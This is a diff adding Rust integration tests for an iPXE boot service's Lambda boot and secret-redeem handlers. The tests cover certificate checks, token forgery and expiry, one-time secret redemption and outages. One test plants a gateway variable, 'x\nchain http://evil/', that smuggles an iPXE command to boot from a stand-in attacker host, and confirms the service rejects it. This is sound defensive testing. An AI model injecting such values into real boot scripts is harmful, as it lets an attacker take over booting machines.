@@ -1,0 +1,333 @@
+//! The boot and redeem handlers driven by API Gateway event fixtures (HTTP API 2.0, REST API,
+//! Lambda function URL), with in-memory stores.
+
+use ipxe_edge_core::domain::identity::DEFAULT_CLOCK_SKEW;
+use ipxe_edge_core::storage::records::Records;
+use ipxe_edge_core::service::boot::{BootService, BootSettings};
+use ipxe_edge_core::lambda::http::{boot_handler, redeem_handler, BootApp, CertHeader, RedeemApp};
+use ipxe_edge_core::domain::identity::{ChainVerifier, Fingerprint, TrustBundle};
+use ipxe_edge_core::domain::model::{GatewayState, ReleaseManifest};
+use ipxe_edge_core::storage::keys;
+use ipxe_edge_pki::{issue_v1_client_with_openssl, CertificateAuthority};
+use ipxe_edge_core::service::redeem::RedeemService;
+use ipxe_edge_core::storage::adapters::memory::{MemoryLedger, MemoryPresigner, MemoryStore};
+use ipxe_edge_core::storage::ObjectStore;
+use ipxe_edge_core::domain::token::Keyring;
+use ipxe_edge_tests::*;
+use lambda_http::{Body, Response};
+use serde_json::{json, Value};
+use std::sync::atomic::Ordering;
+use std::sync::Arc;
+use std::time::Duration;
+
+const SECRET: &[u8] = b"b2c.minio=\"bbz,https://s3.example,KEY,SECRET\"\n";
+
+struct Harness {
+    store: Arc<MemoryStore>,
+    ledger: Arc<MemoryLedger>,
+    keyring: Arc<Keyring>,
+    boot: BootApp,
+    redeem: RedeemApp,
+    gw: ipxe_edge_pki::Issued,
+    fp: Fingerprint,
+}
+
+async fn harness_with(cert_header: CertHeader, secrets: Option<&[u8]>) -> Harness {
+    let store = Arc::new(MemoryStore::new());
+    let ledger = Arc::new(MemoryLedger::default());
+    let keyring = Arc::new(Keyring::parse(&Keyring::generate_entry("k1")).unwrap());
+    let gw = issue_gateway("gw1");
+    let seeded = seed_gateway(store.as_ref(), "gw1", &gw.cert_der, b"KERNEL", b"INITRD", "r1", "console=ttyS0 b2c.container=\"docker://x\"", secrets).await;
+    let settings = BootSettings::new("https://secrets.example.org");
+    let boot = BootApp {
+        service: BootService::new(Records::new(store.clone()), Arc::new(MemoryPresigner::default()), keyring.clone(), settings),
+        verifier: ChainVerifier::new(TrustBundle::from_pem(test_ca().cert_pem().as_bytes()).unwrap(), DEFAULT_CLOCK_SKEW),
+        cert_header,
+    };
+    let redeem = RedeemApp { service: RedeemService::new(Records::new(store.clone()), ledger.clone(), keyring.clone()) };
+    Harness { store, ledger, keyring, boot, redeem, gw, fp: seeded.fingerprint }
+}
+
+async fn harness() -> Harness {
+    harness_with(CertHeader::Off, Some(SECRET)).await
+}
+
+fn v2_boot(cert_pem: &str, raw_query: &str, params: Value) -> lambda_http::Request {
+    v2_boot_method(cert_pem, raw_query, params, "GET")
+}
+
+fn v2_boot_method(cert_pem: &str, raw_query: &str, params: Value, method: &str) -> lambda_http::Request {
+    request(
+        "apigw-http-v2-boot.json",
+        &[
+            ("__CLIENT_CERT_PEM__", json!(cert_pem)),
+            ("__RAW_QUERY__", json!(raw_query)),
+            ("__QUERY_PARAMETERS__", params),
+            ("__METHOD__", json!(method)),
+        ],
+    )
+}
+
+fn default_params() -> Value {
+    json!({"mac": "52:54:00:12:34:56", "platform": "efi", "buildarch": "x86_64"})
+}
+
+fn redeem_request(path: &str, method: &str) -> lambda_http::Request {
+    request("function-url-redeem.json", &[("__PATH__", json!(path)), ("__METHOD__", json!(method))])
+}
+
+fn body(response: &Response<Body>) -> String {
+    String::from_utf8_lossy(response.body().as_ref()).into_owned()
+}
+
+fn header<'a>(response: &'a Response<Body>, name: &str) -> &'a str {
+    response.headers().get(name).map(|v| v.to_str().unwrap()).unwrap_or("")
+}
+
+/// The secrets URL path (`/secrets/<token>`) in a boot script.
+fn secrets_path(script: &str) -> String {
+    let start = script.find("https://secrets.example.org/secrets/").expect("secrets URL in script");
+    let rest = &script[start + "https://secrets.example.org".len()..];
+    rest[..rest.find('"').unwrap()].to_string()
+}
+
+#[tokio::test]
+async fn http_api_event_gets_a_presigned_boot_script() {
+    let h = harness().await;
+    let response = boot_handler(&h.boot, v2_boot(&h.gw.cert_pem, "mac=52:54:00:12:34:56&platform=efi&buildarch=x86_64", default_params())).await;
+    let text = body(&response);
+    assert_eq!(response.status(), 200, "{text}");
+    assert!(header(&response, "content-type").starts_with("text/plain"));
+    assert_eq!(header(&response, "cache-control"), "no-store");
+    let lines: Vec<&str> = text.lines().collect();
+    assert_eq!(lines[0], "#!ipxe");
+    let kernel_url = format!("https://objects.invalid/{}?expires=300&sig=0123", keys::asset(&sha256_hex(b"KERNEL")));
+    assert!(lines[1].starts_with(&format!("kernel {kernel_url} console=ttyS0 b2c.container=\"docker://x\" b2c.extra_args_url=\"https://secrets.example.org/secrets/")), "{}", lines[1]);
+    assert_eq!(lines[2], format!("initrd https://objects.invalid/{}?expires=300&sig=0123", keys::asset(&sha256_hex(b"INITRD"))));
+    assert_eq!(lines[3], "boot");
+    assert_eq!(lines.len(), 4);
+}
+
+#[tokio::test]
+async fn rest_api_event_with_x509_v1_certificate_boots() {
+    let h = harness().await;
+    let legacy = issue_v1_client_with_openssl(test_ca(), "ci-gateway-legacy", 30).expect("openssl is installed");
+    seed_gateway(h.store.as_ref(), "legacy", &legacy.cert_der, b"KERNEL", b"INITRD", "r1", "quiet", None).await;
+    let req = request("apigw-rest-boot.json", &[("__CLIENT_CERT_PEM__", json!(legacy.cert_pem))]);
+    let response = boot_handler(&h.boot, req).await;
+    let text = body(&response);
+    assert_eq!(response.status(), 200, "{text}");
+    assert!(text.contains(" quiet\n"), "no secrets, so no extra_args_url: {text}");
+    assert!(!text.contains("extra_args_url"));
+}
+
+#[tokio::test]
+async fn missing_certificate_is_forbidden_and_header_ignored_unless_configured() {
+    let h = harness().await;
+    // A perfectly valid certificate in the proxy header does not count when header mode is off.
+    let escaped = percent_encoding::utf8_percent_encode(&h.gw.cert_pem, percent_encoding::NON_ALPHANUMERIC).to_string();
+    let req = request("apigw-http-v2-no-cert.json", &[("__HEADER_CERT__", json!(escaped))]);
+    let response = boot_handler(&h.boot, req).await;
+    assert_eq!(response.status(), 403);
+    assert!(body(&response).contains("client certificate required"));
+
+    let with_header = harness_with(CertHeader::Trusted("x-amzn-mtls-clientcert".parse().unwrap()), Some(SECRET)).await;
+    let escaped = percent_encoding::utf8_percent_encode(&with_header.gw.cert_pem, percent_encoding::NON_ALPHANUMERIC).to_string();
+    let req = request("apigw-http-v2-no-cert.json", &[("__HEADER_CERT__", json!(escaped))]);
+    let response = boot_handler(&with_header.boot, req).await;
+    assert_eq!(response.status(), 200, "{}", body(&response));
+
+    // Header mode on still verifies the chain: a certificate from another CA is refused.
+    let other = CertificateAuthority::generate("rogue", 30).unwrap().issue_client("gw1", ipxe_edge_pki::validity_days(5)).unwrap();
+    let escaped = percent_encoding::utf8_percent_encode(&other.cert_pem, percent_encoding::NON_ALPHANUMERIC).to_string();
+    let req = request("apigw-http-v2-no-cert.json", &[("__HEADER_CERT__", json!(escaped))]);
+    assert_eq!(boot_handler(&with_header.boot, req).await.status(), 403);
+}
+
+#[tokio::test]
+async fn unknown_revoked_and_disabled_gateways_are_forbidden() {
+    let h = harness().await;
+    let stranger = issue_gateway("stranger");
+    let response = boot_handler(&h.boot, v2_boot(&stranger.cert_pem, "", Value::Null)).await;
+    assert_eq!(response.status(), 403);
+    assert_eq!(body(&response), "gateway not enrolled\n");
+
+    for state in [GatewayState::Revoked, GatewayState::Disabled] {
+        update_gateway(h.store.as_ref(), &h.fp, |r| r.state = state).await;
+        let response = boot_handler(&h.boot, v2_boot(&h.gw.cert_pem, "", Value::Null)).await;
+        assert_eq!(response.status(), 403, "{state:?}");
+    }
+}
+
+#[tokio::test]
+async fn certificate_from_another_ca_or_garbage_is_forbidden() {
+    let h = harness().await;
+    let other = CertificateAuthority::generate("ipxe-edge test CA", 30).unwrap();
+    let forged = other.issue_client("gw1", ipxe_edge_pki::validity_days(5)).unwrap();
+    assert_eq!(boot_handler(&h.boot, v2_boot(&forged.cert_pem, "", Value::Null)).await.status(), 403);
+    let garbage = "-----BEGIN CERTIFICATE-----\nnot base64\n-----END CERTIFICATE-----\n";
+    assert_eq!(boot_handler(&h.boot, v2_boot(garbage, "", Value::Null)).await.status(), 403);
+}
+
+#[tokio::test]
+async fn storage_outage_is_503_with_retry_after() {
+    let h = harness().await;
+    h.store.fail.store(true, Ordering::SeqCst);
+    let response = boot_handler(&h.boot, v2_boot(&h.gw.cert_pem, "", Value::Null)).await;
+    assert_eq!(response.status(), 503);
+    assert_eq!(header(&response, "retry-after"), "5");
+    assert!(!body(&response).starts_with("#!ipxe"));
+}
+
+#[tokio::test]
+async fn bad_query_and_missing_architecture() {
+    let h = harness().await;
+    let response = boot_handler(&h.boot, v2_boot(&h.gw.cert_pem, "mac=zz", json!({"mac": "zz"}))).await;
+    assert_eq!(response.status(), 400);
+    assert!(body(&response).contains("mac"));
+    let response = boot_handler(&h.boot, v2_boot(&h.gw.cert_pem, "buildarch=arm64", json!({"buildarch": "arm64"}))).await;
+    assert_eq!(response.status(), 404);
+    assert_eq!(body(&response), "release r1 has no assets for architecture arm64\n");
+}
+
+#[tokio::test]
+async fn wrong_path_and_method() {
+    let h = harness().await;
+    let response = boot_handler(&h.boot, v2_boot_method(&h.gw.cert_pem, "", Value::Null, "POST")).await;
+    assert_eq!(response.status(), 405);
+    let response = redeem_handler(&h.redeem, redeem_request("/boot.ipxe", "GET")).await;
+    assert_eq!(response.status(), 404);
+}
+
+#[tokio::test]
+async fn unsafe_gateway_variable_or_template_is_an_error_not_a_script() {
+    let h = harness().await;
+    let manifest_key = keys::release("r1");
+    let mut manifest: ReleaseManifest = serde_json::from_slice(&h.store.get(&manifest_key).await.unwrap().unwrap().body).unwrap();
+    manifest.template = Some("#!ipxe\necho ${site}\nkernel ${kernel_url} ${cmdline}\nboot\n".into());
+    put_json(h.store.as_ref(), &manifest_key, &manifest).await;
+    update_gateway(h.store.as_ref(), &h.fp, |r| {
+        r.vars.insert("site".into(), "x\nchain http://evil/".into());
+    })
+    .await;
+    let response = boot_handler(&h.boot, v2_boot(&h.gw.cert_pem, "", Value::Null)).await;
+    assert_eq!(response.status(), 500);
+    assert!(!body(&response).contains("evil"));
+}
+
+#[tokio::test]
+async fn template_needing_secrets_without_secrets_is_an_error() {
+    let h = harness_with(CertHeader::Off, None).await;
+    let manifest_key = keys::release("r1");
+    let mut manifest: ReleaseManifest = serde_json::from_slice(&h.store.get(&manifest_key).await.unwrap().unwrap().body).unwrap();
+    manifest.cmdline = "b2c.extra_args_url=\"${secrets_url}\"".into();
+    put_json(h.store.as_ref(), &manifest_key, &manifest).await;
+    let response = boot_handler(&h.boot, v2_boot(&h.gw.cert_pem, "", Value::Null)).await;
+    assert_eq!(response.status(), 500, "never a silently broken URL");
+}
+
+#[tokio::test]
+async fn cmdline_can_place_the_secrets_url_itself() {
+    let h = harness().await;
+    let manifest_key = keys::release("r1");
+    let mut manifest: ReleaseManifest = serde_json::from_slice(&h.store.get(&manifest_key).await.unwrap().unwrap().body).unwrap();
+    manifest.cmdline = "b2c.extra_args_url=\"${secrets_url}\" hostname=${gateway} mac=${netX/mac}".into();
+    put_json(h.store.as_ref(), &manifest_key, &manifest).await;
+    let response = boot_handler(&h.boot, v2_boot(&h.gw.cert_pem, "", Value::Null)).await;
+    let text = body(&response);
+    assert_eq!(response.status(), 200, "{text}");
+    assert_eq!(text.matches("extra_args_url").count(), 1, "{text}");
+    assert!(text.contains(" hostname=gw1 mac=${netX/mac}\n"), "{text}");
+}
+
+#[tokio::test]
+async fn secrets_are_served_exactly_once() {
+    let h = harness().await;
+    let script = body(&boot_handler(&h.boot, v2_boot(&h.gw.cert_pem, "", Value::Null)).await);
+    let path = secrets_path(&script);
+
+    // HEAD (and any other method) is refused without touching the ledger.
+    for method in ["HEAD", "POST", "DELETE"] {
+        assert_eq!(redeem_handler(&h.redeem, redeem_request(&path, method)).await.status(), 405);
+    }
+    let first = redeem_handler(&h.redeem, redeem_request(&path, "GET")).await;
+    assert_eq!(first.status(), 200);
+    assert_eq!(first.body().as_ref(), SECRET);
+    assert!(header(&first, "content-type").starts_with("text/plain"));
+    assert_eq!(header(&first, "cache-control"), "no-store");
+    let second = redeem_handler(&h.redeem, redeem_request(&path, "GET")).await;
+    assert_eq!(second.status(), 410);
+    assert!(!second.body().as_ref().windows(6).any(|w| w == b"SECRET"));
+}
+
+#[tokio::test]
+async fn failed_reads_or_ledger_writes_leave_the_token_redeemable() {
+    let h = harness().await;
+    let script = body(&boot_handler(&h.boot, v2_boot(&h.gw.cert_pem, "", Value::Null)).await);
+    let path = secrets_path(&script);
+
+    h.store.fail.store(true, Ordering::SeqCst);
+    let response = redeem_handler(&h.redeem, redeem_request(&path, "GET")).await;
+    assert_eq!(response.status(), 503);
+    assert_eq!(header(&response, "retry-after"), "5");
+    h.store.fail.store(false, Ordering::SeqCst);
+
+    h.ledger.fail.store(true, Ordering::SeqCst);
+    assert_eq!(redeem_handler(&h.redeem, redeem_request(&path, "GET")).await.status(), 503);
+    h.ledger.fail.store(false, Ordering::SeqCst);
+
+    assert_eq!(redeem_handler(&h.redeem, redeem_request(&path, "GET")).await.status(), 200);
+}
+
+#[tokio::test]
+async fn malformed_forged_and_expired_tokens() {
+    let h = harness().await;
+    assert_eq!(redeem_handler(&h.redeem, redeem_request("/secrets/%%%", "GET")).await.status(), 400);
+    assert_eq!(redeem_handler(&h.redeem, redeem_request("/secrets/abc", "GET")).await.status(), 400);
+    assert_eq!(redeem_handler(&h.redeem, redeem_request("/secrets/", "GET")).await.status(), 404);
+
+    let other = Keyring::parse(&Keyring::generate_entry("k1")).unwrap();
+    let (_, forged) = other.mint(&h.fp, &keys::secrets(&h.fp), u64::MAX);
+    assert_eq!(redeem_handler(&h.redeem, redeem_request(&format!("/secrets/{forged}"), "GET")).await.status(), 403);
+
+    // Signed by us but for another object than the gateway's secrets.
+    let (_, wrong_key) = h.keyring.mint(&h.fp, "releases/r1/manifest.json", u64::MAX);
+    assert_eq!(redeem_handler(&h.redeem, redeem_request(&format!("/secrets/{wrong_key}"), "GET")).await.status(), 403);
+
+    let (id, expired) = h.keyring.mint(&h.fp, &keys::secrets(&h.fp), 1);
+    assert_eq!(redeem_handler(&h.redeem, redeem_request(&format!("/secrets/{expired}"), "GET")).await.status(), 410);
+    assert!(!h.ledger.is_used(&id.to_string()), "a refused token is not recorded");
+}
+
+#[tokio::test]
+async fn concurrent_redemptions_in_memory_give_one_success() {
+    let h = Arc::new(harness().await);
+    let script = body(&boot_handler(&h.boot, v2_boot(&h.gw.cert_pem, "", Value::Null)).await);
+    let path = secrets_path(&script);
+    let tasks: Vec<_> = (0..16)
+        .map(|_| {
+            let h = h.clone();
+            let path = path.clone();
+            tokio::spawn(async move { redeem_handler(&h.redeem, redeem_request(&path, "GET")).await.status().as_u16() })
+        })
+        .collect();
+    let mut statuses = Vec::new();
+    for t in tasks {
+        statuses.push(t.await.unwrap());
+    }
+    assert_eq!(statuses.iter().filter(|s| **s == 200).count(), 1, "{statuses:?}");
+    assert_eq!(statuses.iter().filter(|s| **s == 410).count(), 15, "{statuses:?}");
+}
+
+#[tokio::test]
+async fn presign_lifetime_is_configurable() {
+    let h = harness().await;
+    let settings = BootSettings { presign_ttl: Duration::from_secs(60), ..BootSettings::new("https://secrets.example.org") };
+    let app = BootApp {
+        service: BootService::new(Records::new(h.store.clone()), Arc::new(MemoryPresigner::default()), h.keyring.clone(), settings),
+        verifier: ChainVerifier::new(TrustBundle::from_pem(test_ca().cert_pem().as_bytes()).unwrap(), DEFAULT_CLOCK_SKEW),
+        cert_header: CertHeader::Off,
+    };
+    let text = body(&boot_handler(&app, v2_boot(&h.gw.cert_pem, "", Value::Null)).await);
+    assert_eq!(text.matches("expires=60&").count(), 2, "{text}");
+}
